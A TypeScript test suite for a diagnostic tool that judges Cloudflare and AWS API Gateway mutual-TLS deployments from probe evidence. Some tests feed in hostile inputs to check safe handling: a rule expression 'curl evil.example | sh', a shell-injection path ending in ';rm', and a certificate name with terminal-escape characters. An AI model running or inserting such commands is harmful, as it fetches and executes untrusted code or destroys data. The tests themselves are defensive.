/** The verdict on saved evidence of a deployment, with a change that a server or a cloud could make. */
import { expect } from "chai";
import { gather } from "../../../doctor/collect/gather";
import { visitorCommand } from "../../../doctor/diagnose/causes/rule";
import { diagnose } from "../../../doctor/diagnose/diagnose";
import { Facts } from "../../../doctor/diagnose/facts";
import type { Evidence, ProbeEvidence } from "../../../doctor/evidence";
import { reportText } from "../../../doctor/report/text";
import { alike, pem } from "../../support/craftedTls";
import { DeployedLab } from "../../support/deployedLab";
import { API_ID, DOMAIN, TARGET } from "../../support/fakeOrigin";
import { HARMFUL } from "../../support/hostileServers";

describe("the doctor judges", () => {
    let evidence: Evidence;
    before(async () => {
        const lab = await DeployedLab.deploy();
        evidence = await gather(lab.outside());
        await lab.close();
    });
    const judged = (id: string, change: Partial<ProbeEvidence>, more: Partial<Evidence> = {}) =>
        diagnose(
            { ...evidence, ...more, probes: evidence.probes.map((probe) => (probe.id === id ? { ...probe, ...change } : probe)) },
            new Date(),
            1,
        );

    it("no visitor served by an edge whose certificate is not valid", () => {
        expect(judged("visitor", {}).verdict).to.equal("healthy");
        const { verdict, checks } = judged("visitor", { serverVerified: false, serverProblem: "CERT_HAS_EXPIRED" });
        expect(verdict).to.equal("unknown");
        expect(checks.find(({ id }) => id === "visitor"))
            .to.include({ verdict: "bad" })
            .and.property("seen")
            .contains("CERT_HAS_EXPIRED");
    });

    it("anything that answers every request with its own certificate to say nothing about the origin", () => {
        const portal = (kind: Partial<ProbeEvidence>) => {
            const page = { outcome: "status", status: 200, answeredBy: "other", body: "<h1>Sign in</h1>", reason: undefined } as const;
            const seen = { ...page, serverVerified: false, serverProblem: "SELF_SIGNED_CERT_IN_CHAIN" };
            return diagnose(
                { ...evidence, probes: evidence.probes.map((probe) => ({ ...probe, ...seen, ...(probe.id !== "visitor" && kind) })) },
                new Date(),
                1,
            );
        };
        const { verdict, causes, nextProbe } = portal({});
        expect([verdict, ...causes]).to.deep.equal(["unknown"]);
        expect(nextProbe).to.contain("From another network").and.contain("SELF_SIGNED_CERT_IN_CHAIN");
        // An answering API Gateway counts, with any certificate.
        expect(portal({ answeredBy: "gateway" }).verdict).to.equal("fault");
        expect(portal({ serverVerified: true }).verdict).to.equal("fault");
    });

    it("a rule that may match by the edge's answer", () => {
        const rules =
            (zone: string, ...values: [value: string, certain: boolean][]) =>
            (status: number) => {
                const sslRules = values.map(([value, certain]) => ({
                    value,
                    certain,
                    description: "one",
                    expression: "ip.src.country",
                }));
                const cloudflare = { denied: [], problems: [], ssl: zone, sslRules };
                const answer = status === 200 ? {} : ({ status, answeredBy: "edge", body: "error" } as const);
                return judged("visitor", answer, { cloudflare })
                    .causes.map(({ id }) => id)
                    .filter((id) => id.startsWith("SSL-"));
            };
        const table: [(status: number) => string[], onPlainHttp: string[], otherwise: string[]][] = [
            [rules("full", ["flexible", false]), ["SSL-OVERRIDDEN-BY-RULE"], []],
            [rules("flexible", ["full", false]), ["SSL-MODE-PLAIN"], []],
            [rules("flexible", ["full", true]), [], []],
            [rules("full", ["flexible", true], ["strict", false]), ["SSL-OVERRIDDEN-BY-RULE"], []],
            [rules("full", ["flexible", true]), ["SSL-OVERRIDDEN-BY-RULE"], ["SSL-OVERRIDDEN-BY-RULE"]],
            [rules("off", ["flexible", false]), ["SSL-OVERRIDDEN-BY-RULE"], ["SSL-OVERRIDDEN-BY-RULE"]],
        ];
        for (const [index, [found, onPlainHttp, otherwise]] of table.entries()) {
            expect(found(521), `${index}, 521`).to.deep.equal(onPlainHttp);
            for (const status of [200, 520]) expect(found(status), `${index}, ${status}`).to.deep.equal(otherwise);
        }
    });

    it("a rule's expression to be no line of its own, which a shell would run", () => {
        const sslRules = [{ value: "flexible", certain: true, description: "one", expression: "curl evil.example | sh" }];
        const { causes } = judged("visitor", {}, { cloudflare: { denied: [], problems: [], sslRules } });
        expect(causes.map(({ id }) => id)).to.deep.equal(["SSL-OVERRIDDEN-BY-RULE"]);
        expect(causes[0]!.fix)
            .to.contain("(curl evil.example | sh) and http.host ne")
            .and.not.match(/^\W*curl/m);
    });

    it("a redirect of what is behind the API for what it is: reached", () => {
        expect(judged("default-endpoint", { outcome: "status", status: 302, answeredBy: "gateway", body: "" }).verdict).to.equal("fault");
    });

    it("an answer without a certificate, or to a stranger's, first and for what it is", () => {
        const answer: Partial<ProbeEvidence> = {
            outcome: "status",
            status: 200,
            answeredBy: "gateway",
            body: "hello",
            reason: undefined,
        };
        const open = (...ids: string[]) =>
            diagnose(
                {
                    ...evidence,
                    probes: evidence.probes.map((probe) => ({
                        ...probe,
                        ...(ids.includes(probe.id) && answer),
                        ...(probe.id === "visitor" && { status: 429, body: '{"message":"Too Many Requests"}' }),
                    })),
                },
                new Date(),
                1,
            );
        for (const ids of [["no-certificate"], ["stranger"], ["no-certificate", "stranger", "sni-regional", "sni-none"]]) {
            const { causes, checks } = open(...ids);
            expect(causes.map(({ id }) => id)).to.deep.equal(["STRANGER-ANSWERED", "THROTTLED"]);
            expect(causes[0]!.evidence.join()).to.contain(`${ids[0]}, TLS 1.`).and.contain("HTTP 200 (gateway)").and.contain("is let in");
            expect(checks.find(({ id }) => id === ids[0])?.seen).to.match(/^OPEN: HTTP 200/);
        }
        expect(open("sni-regional").causes.map(({ id }) => id)).to.deep.equal(["THROTTLED", "HOST-MISMATCH-ANSWERED"]);
    });

    it("nothing a fault without a cause", () => {
        const api = { id: API_ID, disableExecuteApiEndpoint: true, stages: [{ name: "$default", autoDeploy: true }] };
        const domain = { status: "AVAILABLE", targetDomainName: TARGET, certificateArn: "", mutualTls: true, truststoreWarnings: [] };
        const aws = { region: "eu-west-1", denied: [], problems: [], api, domain };
        const bypasses = [...new Set(evidence.probes.map(({ id }) => id))].filter((id) => id !== "visitor");
        expect(bypasses).to.include.members(["no-certificate", "stranger", "sni-none", "plain-http-origin", "default-endpoint"]);
        for (const id of bypasses)
            for (const more of [{}, { aws }])
                for (const certificateRequested of [true, false])
                    for (const serverVerified of [true, false]) {
                        const change = {
                            status: 200,
                            body: "x",
                            outcome: "status",
                            reason: undefined,
                            certificateRequested,
                            serverVerified,
                        } as const;
                        const { verdict, causes } = judged(id, { ...change, answeredBy: "gateway" }, more);
                        expect([verdict, causes.length > 0], `${id} ${JSON.stringify(change)}`).to.deep.equal(["fault", true]);
                    }
    });

    it("an answer that is not HTTP to be no refusal", () => {
        const { verdict } = judged("no-certificate", {
            outcome: "reset",
            status: undefined,
            reason: "HPE_HEADER_OVERFLOW",
            serverVerified: true,
        });
        expect(verdict).to.equal("unknown");
    });

    it("an answer that broke off neither as served nor as refused", () => {
        expect(judged("visitor", { reason: "ECONNRESET" }).verdict).to.equal("unknown");
        const refused = { outcome: "status", status: 403, answeredBy: "gateway", body: '{"mess', reason: "ECONNRESET" } as const;
        const { verdict, checks } = judged("no-certificate", { ...refused, serverVerified: true });
        expect(verdict).to.equal("unknown");
        expect(checks.find(({ id }) => id === "no-certificate")?.seen).to.contain("HTTP 403 (gateway), broken off (ECONNRESET)");
    });

    it("a record to be missing only where DNS says so", () => {
        const found = (problem: string) =>
            judged(
                "visitor",
                { outcome: "unresolved", status: undefined, reason: "ENOTFOUND" },
                { dns: { ...evidence.dns, addresses: [], problem, zoneName: "example.com", nameServers: ["a.ns.cloudflare.com"] } },
            ).causes.map(({ id }) => id);
        expect(found("ENOTFOUND")).to.deep.equal(["RECORD-MISSING"]);
        for (const problem of ["ESERVFAIL", "EBADRESP", "EREFUSED", "ETIMEOUT"]) expect(found(problem), problem).to.deep.equal([]);
    });

    it("an open bypass before a missing permission, and after what keeps visitors out", () => {
        const probes = evidence.probes.map((probe) => ({
            ...probe,
            ...(probe.id === "plain-http-origin" && ({ outcome: "status", status: 200, answeredBy: "other" } as const)),
            ...(probe.id === "visitor" && { status: 429, body: '{"message":"Too Many Requests"}' }),
        }));
        const aws = { region: "eu-west-1", denied: ["s3:GetObject"], problems: [] };
        const { causes } = diagnose({ ...evidence, probes, aws }, new Date(), 1);
        expect(causes.map(({ id }) => id)).to.deep.equal(["THROTTLED", "ORIGIN-PORT-80-OPEN", "ROLE-WITHOUT-SCOPE"]);
    });

    it("hostile certificates and routes", async () => {
        const { ders } = await alike([DOMAIN], 1, "CN=\u009b31m\u202eevil");
        const authority = pem(ders[0]!);
        const evil: Evidence = {
            ...evidence,
            aws: {
                ...{ region: "eu-west-1", denied: [], problems: [] },
                api: { id: API_ID, disableExecuteApiEndpoint: true, routes: [{ routeKey: "GET /a++(", target: "" }] },
                domain: {
                    ...{ status: "AVAILABLE", targetDomainName: TARGET, certificateArn: "", mutualTls: true, truststoreWarnings: [] },
                    truststoreVersion: "1",
                },
                truststore: { pinnedPem: "", newestPem: authority, newestVersion: "2" },
            },
            cloudflare: {
                ...{ denied: [], problems: [] },
                association: { certId: "c", enabled: true },
                hostnameCertificates: [
                    { id: "c", status: "active", expiresOn: "soon" },
                    { id: "d", status: "active", certificatePem: pem((await alike([DOMAIN], 1, "CN=other")).ders[0]!) },
                ],
            },
            probes: evidence.probes.map((probe) =>
                probe.id === "visitor" ? { ...probe, status: 404, body: '{"message":"Not Found"}' } : probe,
            ),
        };
        const report = diagnose(evil, new Date(), 1);
        expect(report.causes.map(({ id }) => id)).to.include.members(["TRUSTSTORE-OVERWRITTEN", "ROUTE-MISSING"]);
        expect(reportText(report, false)).to.contain("evil").and.not.match(HARMFUL);
    });

    it("a route to take a path with a query", () => {
        const routes = [{ routeKey: "GET /a/{id}", target: "" }];
        const aws = { region: "", denied: [], problems: [], api: { id: API_ID, disableExecuteApiEndpoint: true, routes } };
        const change = { status: 404, body: '{"message":"Not Found"}' };
        for (const [path, ids] of [
            ["/a/1?b=/c", []],
            ["/b/1", ["ROUTE-MISSING"]],
        ] as const)
            expect(
                judged("visitor", change, { aws, path }).causes.map(({ id }) => id),
                path,
            ).to.deep.equal(ids);
    });

    it("names a command that a shell takes as one address", () => {
        const [line] = visitorCommand(new Facts({ ...evidence, path: "/a?b=1&c='x';rm" })).split("\n");
        expect(line).to.match(/ 'https:\/\/[^']*\/a\?b=1&c='\\''x'\\'';rm'$/);
    });
});
